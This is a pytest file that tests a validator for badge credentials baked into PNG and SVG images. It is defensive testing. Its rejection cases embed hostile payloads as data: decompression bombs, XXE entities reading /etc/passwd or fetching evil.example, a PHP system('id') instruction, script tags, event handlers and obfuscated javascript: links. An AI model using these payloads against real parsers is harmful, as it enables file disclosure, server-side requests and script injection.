"""Our own tables of pictures that carry a badge: each is made in a line, and judged as any upload is."""

import json
import struct
import zlib

import pytest

from credentials.baking import bake_png, bake_svg
from tests.vectors.tables import Scene

SCENE = Scene()
BADGE = json.dumps(SCENE.signed()).encode()
OTHER = json.dumps(SCENE.ended()).encode()
TOKEN = SCENE.token().encode()

MARK = b"\x89PNG\r\n\x1a\n"
KEYWORD = b"openbadgecredential"


def chunk(kind, body=b"", check=None, length=None):
    checksum = zlib.crc32(kind + body) if check is None else check
    return (
        struct.pack(">I", len(body) if length is None else length) + kind + body + struct.pack(">I", checksum)
    )


def text(body=BADGE, keyword=KEYWORD, flags=b"\0\0", between=b"\0\0"):
    return chunk(b"iTXt", keyword + b"\0" + flags + between + body)


HEAD = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0))
PIXELS = chunk(b"IDAT", zlib.compress(b"\0\0\0\0\0"))
END = chunk(b"IEND")
GOOD = text()


def png(*chunks, mark=MARK):
    return mark + b"".join(chunks)


# (name, reason, bytes, the code of the refusal; None for an honest twin)
PNGS = [
    ("as baked", "the honest twin", png(HEAD, GOOD, PIXELS, END), None),
    ("baked by ourselves", "the honest twin", bake_png(png(HEAD, PIXELS, END), BADGE), None),
    ("behind the pixels", "a text may stand anywhere", png(HEAD, PIXELS, GOOD, END), None),
    ("a token", "a compact JWS is a credential too", png(HEAD, text(TOKEN), PIXELS, END), None),
    ("with a language", "iTXt says in which language it is", png(HEAD, text(between=b"en\0\0"), PIXELS, END), None),
    ("with a translated keyword", "and how it is called there", png(HEAD, text(between=b"\0M\xc3\xa4rke\0"), PIXELS, END), None),
    ("with other texts", "titles and comments are nobody's badge", png(HEAD, chunk(b"tEXt", b"Title\0x"), GOOD, PIXELS, END), None),
    ("with pixels in parts", "as encoders write them", png(HEAD, GOOD, chunk(b"IDAT", b"x"), chunk(b"IDAT", b"y"), END), None),
    ("with a private chunk", "programs add their own", png(HEAD, GOOD, chunk(b"prVt", b"x"), PIXELS, END), None),
    ("twice", "which of the two?", png(HEAD, GOOD, GOOD, PIXELS, END), "png_doubled"),
    ("twice, before and behind the pixels", "which of the two?", png(HEAD, GOOD, PIXELS, text(OTHER), END), "png_doubled"),
    ("of two standards", "which of the two?", png(HEAD, GOOD, text(keyword=b"openbadges"), PIXELS, END), "png_ambiguous"),
    ("of a record and a badge", "which of the two?", png(HEAD, GOOD, text(keyword=b"clrcredential"), PIXELS, END), "png_ambiguous"),
    ("one of two compressed", "which of the two?", png(HEAD, GOOD, chunk(b"zTXt", KEYWORD + b"\0\0x"), PIXELS, END), "png_doubled"),
    ("one of two in tEXt", "which of the two?", png(HEAD, GOOD, chunk(b"tEXt", KEYWORD + b"\0{}"), PIXELS, END), "png_doubled"),
    ("compressed", "the standard forbids it, and bombs are made so", png(HEAD, text(zlib.compress(BADGE), flags=b"\1\0"), PIXELS, END), "png_compressed"),
    ("a bomb", "a megabyte in a kilobyte", png(HEAD, text(zlib.compress(bytes(10**6)), flags=b"\1\0"), PIXELS, END), "png_compressed"),
    ("a bomb in zTXt", "the same in the older chunk", png(HEAD, chunk(b"zTXt", KEYWORD + b"\0\0" + zlib.compress(bytes(10**6))), PIXELS, END), "png_compressed"),
    ("with an unknown flag", "neither plain nor compressed", png(HEAD, text(flags=b"\2\0"), PIXELS, END), "png_compressed"),
    ("with an unknown method", "a method of compression for plain text", png(HEAD, text(flags=b"\0\1"), PIXELS, END), "png_compressed"),
    ("in tEXt", "Latin-1 alone, so not for JSON", png(HEAD, chunk(b"tEXt", KEYWORD + b"\0" + BADGE), PIXELS, END), "png_wrong_chunk"),
    ("without separators", "keyword and text run together", png(HEAD, chunk(b"iTXt", KEYWORD), PIXELS, END), "png_malformed_text"),
    ("with one separator", "no language, no keyword", png(HEAD, chunk(b"iTXt", KEYWORD + b"\0\0\0\0"), PIXELS, END), "png_malformed_text"),
    ("with an empty text", "nothing in it", png(HEAD, text(b""), PIXELS, END), "unknown_kind"),
    ("with a null in the text", "JSON has none", png(HEAD, text(BADGE + b"\0"), PIXELS, END), "not_json"),
    ("with two credentials in one text", "one text, one credential", png(HEAD, text(BADGE + BADGE), PIXELS, END), "not_json"),
    ("with keyword in capitals", "keywords are told by every letter", png(HEAD, text(keyword=KEYWORD.upper()), PIXELS, END), "no_credential"),
    ("with a space before the keyword", "keywords are told by every letter", png(HEAD, text(keyword=b" " + KEYWORD), PIXELS, END), "no_credential"),
    ("with a space behind the keyword", "keywords are told by every letter", png(HEAD, text(keyword=KEYWORD + b" "), PIXELS, END), "no_credential"),
    ("in a chunk of another case", "iTXT is another chunk", png(HEAD, chunk(b"iTXT", KEYWORD + b"\0\0\0\0\0" + BADGE), PIXELS, END), "no_credential"),
    ("without a badge", "a picture", png(HEAD, PIXELS, END), "no_credential"),
    ("with a wrong checksum of the text", "altered on the way", png(HEAD, chunk(b"iTXt", KEYWORD + b"\0\0\0\0\0" + BADGE, check=0), PIXELS, END), "png_checksum"),
    ("with a wrong checksum of the pixels", "altered on the way", png(HEAD, GOOD, chunk(b"IDAT", b"x", check=0), END), "png_checksum"),
    ("with a wrong checksum of the end", "altered on the way", png(HEAD, GOOD, PIXELS, chunk(b"IEND", check=0)), "png_checksum"),
    ("with a length beyond the end", "cut or forged", png(HEAD, chunk(b"iTXt", b"x", length=10**6), PIXELS, END), "png_truncated"),
    ("with a length of four gibibytes", "no chunk is so long", png(HEAD, chunk(b"iTXt", b"x", length=2**32 - 1), PIXELS, END), "png_length"),
    ("with a length beyond 2^31", "no chunk may be so long", png(HEAD, chunk(b"iTXt", b"x", length=2**31), PIXELS, END), "png_length"),
    ("with a length that hides the end", "the rest of the file as one chunk", png(HEAD, GOOD, chunk(b"prVt", PIXELS + END)), "png_truncated"),
    ("with a kind that is no word", "no chunk", png(HEAD, GOOD, chunk(b"i1Xt", b""), PIXELS, END), "png_length"),
    ("cut in the text", "cut", png(HEAD, GOOD)[:-40], "png_truncated"),
    ("cut before the end", "no end", png(HEAD, GOOD, PIXELS), "png_truncated"),
    ("cut in the header", "no picture", png(HEAD)[:-8], "png_truncated"),
    ("of nothing but its mark", "no picture", MARK, "png_truncated"),
    ("with bytes behind the end", "a second file in the first", png(HEAD, GOOD, PIXELS, END) + b"x", "png_trailing"),
    ("with a badge behind the end", "some read on", png(HEAD, PIXELS, END, GOOD), "png_trailing"),
    ("with a whole picture behind the end", "two pictures", png(HEAD, GOOD, PIXELS, END) + png(HEAD, PIXELS, END), "png_trailing"),
    ("with an archive behind the end", "a picture and an archive in one", png(HEAD, GOOD, PIXELS, END) + b"PK\3\4", "png_trailing"),
    ("with two headers", "two pictures", png(HEAD, GOOD, HEAD, PIXELS, END), "png_order"),
    ("without header", "no picture", png(GOOD, PIXELS, END), "png_order"),
    ("with the header second", "no encoder writes that", png(GOOD, HEAD, PIXELS, END), "png_order"),
    ("with a header of another length", "no header", png(chunk(b"IHDR", bytes(12)), GOOD, PIXELS, END), "png_order"),
    ("without pixels", "no picture", png(HEAD, GOOD, END), "png_order"),
    ("with pixels in two places", "no encoder writes that", png(HEAD, PIXELS, GOOD, PIXELS, END), "png_order"),
    ("with something in the end", "the end is empty", png(HEAD, GOOD, PIXELS, chunk(b"IEND", b"x")), "png_order"),
    ("with more chunks than a picture has", "twenty thousand empty ones", png(HEAD, *[chunk(b"prVt")] * 20_000, GOOD, PIXELS, END), "png_order"),
    ("of six mebibytes", "no badge is so big", png(HEAD, GOOD, chunk(b"prVt", bytes(6 * 2**20)), PIXELS, END), "picture_too_big"),
    ("with line ends changed", "sent as text", png(HEAD, GOOD, PIXELS, END, mark=b"\x89PNG\n\x1a\n"), "unknown_kind"),
    ("with seven bits", "sent through old mail", png(HEAD, GOOD, PIXELS, END, mark=b"\x09PNG\r\n\x1a\n"), "unknown_kind"),
    ("behind a byte", "something before the picture", b"x" + png(HEAD, GOOD, PIXELS, END), "unknown_kind"),
    ("in its animated kind", "MNG is another format", png(HEAD, GOOD, PIXELS, END, mark=b"\x8aMNG\r\n\x1a\n"), "unknown_kind"),
]  # fmt: skip

BODY = b"<o:credential><![CDATA[" + BADGE + b"]]></o:credential>"
ATTRIBUTE = b'<o:credential verify="' + TOKEN + b'"/>'
SPACES = b'xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:o="https://purl.imsglobal.org/ob/v3p0"'


def svg(inside=b"", attributes=b"", before=b"", carried=BODY):
    return before + b"<svg " + SPACES + b" " + attributes + b">" + inside + carried + b"</svg>"


def escaped(body):
    return body.replace(b"&", b"&amp;").replace(b"<", b"&lt;").replace(b'"', b"&quot;")


def entity(name):
    return b"<!DOCTYPE svg [" + name + b"]>"


SVGS = [
    ("as baked", "the honest twin", svg(), None),
    ("a token", "the honest twin", svg(carried=ATTRIBUTE), None),
    ("baked by ourselves", "the honest twin", bake_svg(svg(carried=b""), BADGE, is_jws=False), None),
    ("with a drawing", "a picture draws", svg(b'<path d="M0 0"/><style>path{fill:red}</style>'), None),
    ("with a link", "a picture may link", svg(b'<a x:href="https://a.example/"><text>onload javascript</text></a>'), None),
    ("with a small picture in it", "pixels in a data address", svg(b'<image x:href="data:image/png;base64,AA=="/>'), None),
    ("with a declaration", "XML may say its version", svg(before=b'<?xml version="1.0" encoding="UTF-8"?>\n'), None),
    ("with a comment", "what stands in a comment is nothing", svg(b"<!-- <script>1</script> <o:credential/> -->"), None),
    ("with escapes instead of CDATA", "the same text", svg(carried=b"<o:credential>" + escaped(BADGE) + b"</o:credential>"), None),
    ("with another prefix", "prefixes are only names", svg(carried=BODY.replace(b"o:", b"p:").replace(b"<p:credential>", b'<p:credential xmlns:p="https://purl.imsglobal.org/ob/v3p0">')), None),
    ("twice", "which of the two?", svg(carried=BODY + BODY), "svg_doubled"),
    ("twice in two forms", "which of the two?", svg(carried=BODY + ATTRIBUTE), "svg_doubled"),
    ("of two standards", "which of the two?", svg(carried=BODY + b'<b:assertion xmlns:b="http://openbadges.org" verify="a.b.c"/>'), "svg_ambiguous"),
    ("in attribute and body", "which of the two?", svg(carried=ATTRIBUTE[:-2] + b">{}</o:credential>"), "svg_ambiguous"),
    ("with an element in the credential", "text is cut in two", svg(carried=b"<o:credential>{<g/>}</o:credential>"), "svg_ambiguous"),
    ("one in the other", "which of the two?", svg(carried=b"<o:credential>" + ATTRIBUTE + b"</o:credential>"), "svg_ambiguous"),
    ("with another namespace", "another element", svg(carried=BODY.replace(b"<o:credential>", b'<o:credential xmlns:o="https://evil.example/">')), "no_credential"),
    ("with another name", "another element", svg(carried=BODY.replace(b"o:credential", b"o:Credential")), "no_credential"),
    ("with nothing in it", "nothing", svg(carried=b"<o:credential/>"), "no_credential"),
    ("without a badge", "a picture", svg(carried=b""), "no_credential"),
    ("with a document type", "none is allowed", svg(before=b"<!DOCTYPE svg>"), "svg_doctype"),
    ("with a public document type", "none is allowed", svg(before=b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'), "svg_doctype"),
    ("with a billion laughs", "entities of entities", svg(b"<text>&b;</text>", before=entity(b'<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">')), "svg_doctype"),
    ("with a file as an entity", "reads what is ours", svg(b"<text>&f;</text>", before=entity(b'<!ENTITY f SYSTEM "file:///etc/passwd">')), "svg_doctype"),
    ("with an address as an entity", "fetches", svg(b"<text>&f;</text>", before=entity(b'<!ENTITY f SYSTEM "https://evil.example/">')), "svg_doctype"),
    ("with a parameter entity", "fetches", svg(before=entity(b'<!ENTITY % f SYSTEM "https://evil.example/"> %f;')), "svg_doctype"),
    ("with a default attribute", "an attribute that nobody sees", svg(before=entity(b'<!ATTLIST svg onload CDATA "alert(1)">')), "svg_doctype"),
    ("with an entity that nobody defined", "no XML", svg(b"<text>&x;</text>"), "not_svg"),
    ("with a style sheet by instruction", "fetched and run", svg(before=b'<?xml-stylesheet href="https://evil.example/x.xsl"?>'), "svg_script"),
    ("with an instruction for PHP", "run by careless servers", svg(b"<?php system('id') ?>"), "svg_script"),
    *[
        (f"with the element {name}", "it runs or embeds what is not the picture", svg(f"<{name}/>".encode()), "svg_script")
        for name in (
            "script", "SCRIPT", "h:script", "h:sCript", "handler", "foreignObject", "h:iframe", "h:object",
            "h:embed", "h:frame", "h:applet", "h:meta", "h:link", "h:base",
        )
    ],
    *[
        (f"with the attribute {name}", "a handler runs", svg(attributes=f'{name}="alert(1)"'.encode()), "svg_script")
        for name in ("onload", "ONLOAD", "onbegin", "onclick", "onfocusin", "onanything", "x:onload")
    ],
    *[
        (f"with a link to {value}", "an address that runs", svg(f'<a x:href="{value}"/>'.encode()), "svg_script")
        for value in (
            "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java&#9;script:alert(1)",
            "java&#10;script:alert(1)", "&#x6a;avascript:alert(1)", "javascript&#58;alert(1)", "vbscript:x",
            "java\u200bscript:alert(1)", "data:text/html,x", "data:&#10;text/html;base64,AA==", "DATA:text/html,x",
            "data:image/svg+xml,x", "data:application/xhtml+xml,x", "data:text/xml,x",
        )
    ],
    ("with an animated handler", "an animation sets it", svg(b'<set attributeName="onclick" to="alert(1)"/>'), "svg_script"),
    ("with an animated address", "an animation sets it", svg(b'<animate attributeName="href" values="#;javascript:alert(1)"/>'), "svg_script"),
    ("that is no XML", "no picture", b"<svg", "not_svg"),
    ("with two roots", "no XML", svg() + svg(), "not_svg"),
    ("with text behind the root", "no XML", svg() + b"x", "not_svg"),
    ("with a root of another namespace", "no picture", svg().replace(b"http://www.w3.org/2000/svg", b"http://www.w3.org/1999/xhtml"), "not_svg"),
    ("with a root of another name", "no picture", svg().replace(b"<svg", b"<g").replace(b"</svg", b"</g"), "not_svg"),
    ("with an attribute twice", "no XML", svg(attributes=b'a="1" a="2"'), "not_svg"),
    ("with a prefix that nobody declared", "no XML", svg(b"<q:g/>"), "not_svg"),
    ("in UTF-16", "another encoding hides what it says", svg().decode().encode("utf-16"), "unknown_kind"),
    ("in UTF-7", "another encoding hides what it says", svg(before=b'<?xml version="1.0" encoding="UTF-7"?>'), "svg_not_utf8"),
    ("in Latin-1", "another encoding hides what it says", svg(before=b'<?xml version="1.0" encoding="ISO-8859-1"?>'), "svg_not_utf8"),
    ("with a byte that is no UTF-8", "no text", svg(b"<text>\xff</text>"), "svg_not_utf8"),
    ("packed", "gzip hides what it says", zlib.compress(svg()), "unknown_kind"),
    ("of six mebibytes", "no badge is so big", svg(b" " * 6 * 2**20), "picture_too_big"),
]  # fmt: skip


def params(rows):
    return [pytest.param(*row[1:], id=row[0]) for row in rows]


@pytest.mark.parametrize(("reason", "data", "code"), params(PNGS))
def test_a_png_carries_one_badge_in_one_way(reason, data, code):
    assert SCENE.judge(data) == expected(code), reason


@pytest.mark.parametrize(("reason", "data", "code"), params(SVGS))
def test_an_svg_carries_one_badge_and_nothing_that_runs(reason, data, code):
    assert SCENE.judge(data) == expected(code), reason


def expected(code):
    return ("genuine", None, None) if code is None else ("do_not_rely", "unreadable", code)
